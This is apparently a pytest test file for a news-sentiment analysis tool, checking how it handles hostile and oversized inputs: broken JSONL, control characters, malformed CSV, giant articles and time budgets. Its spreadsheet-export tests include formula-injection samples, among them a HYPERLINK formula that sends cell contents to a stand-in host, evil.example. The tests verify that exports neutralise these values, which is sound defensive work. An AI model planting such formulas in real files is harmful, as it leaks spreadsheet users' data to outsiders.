"""Hostile and huge inputs: row-level defects reject the row, exports are safe to open in a spreadsheet,
odd characters load, sentences stay bounded, and an article over the time budget is set aside."""

import csv
import shutil
import subprocess
import sys

import pandas as pd
import pytest

from helpers.store import read_tables
from helpers.cli import main
from helpers.corpus import load_corpus
from helpers.errors import SourcebookError
from helpers.exports import FORMULA_STARTS, neutralise_cell, restore_cell
from helpers.text import MAX_SENTENCE, split_sentences_counted

from .conftest import FIXTURES, ROOT, SEEDS

HOSTILE = FIXTURES / "hostile_inputs"


def run(*args, env=None):
    return subprocess.run([sys.executable, "-m", "helpers.cli", *map(str, args)], capture_output=True, text=True,
                          cwd=ROOT, env=env)


def test_a_jsonl_with_broken_lines_loads_every_good_line_and_lists_each_bad_one():
    corpus = load_corpus(HOSTILE / "broken-lines.jsonl")
    assert set(corpus.articles["article_id"]) == {"good-1", "good-2", "surrogate"}
    reasons = dict(zip(corpus.rejected["row"], corpus.rejected["reason"]))
    assert reasons[2].startswith("line 2 is not valid JSON")
    assert reasons[3] == "line 3 is not a JSON object"
    assert reasons[4] == "text is null"
    assert corpus.counts["inputs"] == 6 and corpus.counts["rejected"] == 3


def test_lone_surrogates_and_control_characters_are_replaced_and_said_so():
    corpus = load_corpus(HOSTILE / "broken-lines.jsonl")
    row = corpus.articles.set_index("article_id").loc["surrogate"]
    assert "\ufffd" in row["text"] and "lone surrogate" in row["warnings"]
    controls = load_corpus(HOSTILE / "control-characters.txt").articles.iloc[0]
    assert "\x07" not in controls["text"] and "\x1b" not in controls["text"] and "control character" in controls["warnings"]
    assert "\x00" not in row["text"]


def test_a_csv_row_with_more_fields_than_the_header_is_rejected_alone():
    corpus = load_corpus(HOSTILE / "formula-cells.csv")
    assert "f6" not in set(corpus.articles["article_id"]) and len(corpus.articles) == 6
    bad = corpus.rejected.iloc[0]
    assert bad["row"] == 7 and "has 6 fields; the header has 5" in bad["reason"]


def test_an_unterminated_quote_rejects_the_file_with_the_line_where_it_breaks():
    with pytest.raises(SourcebookError, match="unterminated quote in the row that begins on line 2"):
        load_corpus(HOSTILE / "unterminated-quote.csv")
    result = run("load", HOSTILE / "unterminated-quote.csv")
    assert result.returncode == 2 and len(result.stderr.strip().splitlines()) == 1


@pytest.mark.parametrize("value", ["=1+1", "+cmd", "-2+3", "@SUM(A1)", "\tx", "'=x", "''=y", "''Quote,'' he said.", "plain",
                                   "-0.25", "+3", ""])
def test_neutralised_cells_restore_exactly_and_never_start_a_formula(value):
    safe = neutralise_cell(value)
    assert restore_cell(safe) == value
    if value and value.startswith(FORMULA_STARTS) and value not in ("-0.25", "+3"):
        assert safe.startswith("'")
    if value.startswith("''") and not value.lstrip("'").startswith(FORMULA_STARTS):
        assert safe == value  # text opening with two apostrophes (an outlet's quote marks) is written as it is


def _spreadsheet_cells(folder):
    for path in sorted(folder.rglob("*.csv")):
        with open(path, newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    yield path.name, cell


def _unsafe(cell: str) -> bool:
    import re

    return cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"[-+]?[\d.,]+(?:[eE][-+]?\d+)?", cell)


def test_analysis_tables_hold_no_live_formula_and_read_back_raw(tmp_path):
    assert main(["analyze", str(HOSTILE / "formula-cells.csv"), "--out", str(tmp_path), "--engines", "textblob"]) == 0
    bad = [(name, cell) for name, cell in _spreadsheet_cells(tmp_path) if _unsafe(cell)]
    assert bad == []
    analysis = read_tables(tmp_path)
    texts = analysis.articles.set_index("article_id")["text"]
    assert texts["f1"].startswith('=HYPERLINK("http://evil.example/?x="&A1,"click")')
    assert texts["f5"].startswith("'=already quoted")  # an apostrophe that was in the text stays
    assert analysis.articles.set_index("article_id").loc["f2", "outlet"] == "+outlet"
    for row in analysis.attributions.itertuples():  # offsets still point at the raw text
        assert texts[row.article_id][row.start:row.end] in row.sentence


@pytest.mark.slow
def test_a_rendered_report_holds_no_live_formula_in_any_csv(tmp_path):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    shutil.copy(HOSTILE / "formula-cells.csv", corpus)
    for path in SEEDS.glob("*.txt"):
        shutil.copy(path, corpus)
    out = tmp_path / "reports"
    assert main(["render", str(corpus), "--out", str(out), "--notebooks", "01,03"]) == 0
    cells = list(_spreadsheet_cells(out / "data"))
    assert any(cell.startswith("'=HYPERLINK") for _n, cell in cells)
    assert [(n, c) for n, c in cells if _unsafe(c)] == []


def test_odd_inputs_end_in_the_ledger_or_the_tables(tmp_path):
    corpus = tmp_path / "odd"
    corpus.mkdir()
    for name in ("broken-lines.jsonl", "control-characters.txt", "only-emoji.txt"):
        shutil.copy(HOSTILE / name, corpus)
    assert main(["analyze", str(corpus), "--out", str(tmp_path / "out"), "--engines", "textblob,vader"]) == 0
    analysis = read_tables(tmp_path / "out")
    counts = analysis.counts
    assert counts["inputs"] == counts["analysed"] + counts["rejected"] + counts["duplicates"] == 8
    assert "only-emoji" in set(analysis.articles["article_id"])


def test_text_without_punctuation_is_cut_into_bounded_sentences():
    text = ("word " * 5000) + "\nanother run of words " * 300 + "A normal sentence. Another."
    spans, cut = split_sentences_counted(text)
    assert cut >= 1 and max(len(s.text) for s in spans) <= MAX_SENTENCE
    assert all(text[s.start:s.end] == s.text for s in spans)


def test_a_time_budget_that_runs_out_during_the_first_article_never_leaves_a_half_imported_module():
    # A fresh interpreter (nothing of TextBlob or NLTK imported yet) and a budget far below the first article's
    # imports: what loads on first use is loaded outside the deadline, so each article is analysed or set aside
    # for time, and none fails on a module a fired deadline left half-initialised.
    code = (
        "import os; os.environ['SOURCEBOOK_TIME_BUDGET'] = '0.002'\n"
        "from helpers.article import safe_analyze\n"
        "import sys\n"
        "for _ in range(3):\n"
        "    result = safe_analyze('“Prices rose,” the minister said. Growth was weak.', ('textblob', 'vader'))\n"
        "    print(result[1] if result[0] == 'error' else 'analysed')\n"
        "print(all(m in sys.modules for m in ('nltk', 'textblob', 'vaderSentiment.vaderSentiment')))\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120, cwd=ROOT)
    assert done.returncode == 0, done.stderr
    *outcomes, loaded = done.stdout.splitlines()
    assert loaded == "True"  # imported whole, before the first deadline, though no article had the time
    assert len(outcomes) == 3
    assert all(line == "analysed" or line == "not analysed: took longer than 0.002 s" for line in outcomes), outcomes


@pytest.mark.slow
@pytest.mark.no_kernel
def test_a_million_word_article_is_analysed_with_a_warning_and_an_over_budget_one_set_aside(tmp_path):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    words = ["the", "market", "said", "Smith", "told", "officials", "data", "growth", "report", "minister"]
    (corpus / "2021-06-01-huge.txt").write_text(" ".join(words[i % 10] for i in range(1_000_000)), encoding="utf-8")
    for path in SEEDS.glob("*.txt"):
        shutil.copy(path, corpus)
    result = run("analyze", corpus, "--out", tmp_path / "out", "--engines", "textblob", "--no-cache")
    assert result.returncode == 0, result.stderr
    articles = pd.read_csv(tmp_path / "out" / "articles.csv", keep_default_na=False).set_index("article_id")
    assert len(articles) == 4 and "cut into sentences of at most" in articles.loc["2021-06-01-huge", "warnings"]
    budget = run("analyze", corpus, "--out", tmp_path / "budget", "--engines", "textblob", "--no-cache",
                 "--time-budget", "3")
    assert budget.returncode == 0, budget.stderr
    rejected = pd.read_csv(tmp_path / "budget" / "rejected.csv", keep_default_na=False)
    assert list(rejected["article_id"]) == ["2021-06-01-huge"]
    assert rejected["reason"][0] == "not analysed: took longer than 3 s"
    assert len(pd.read_csv(tmp_path / "budget" / "articles.csv")) == 3
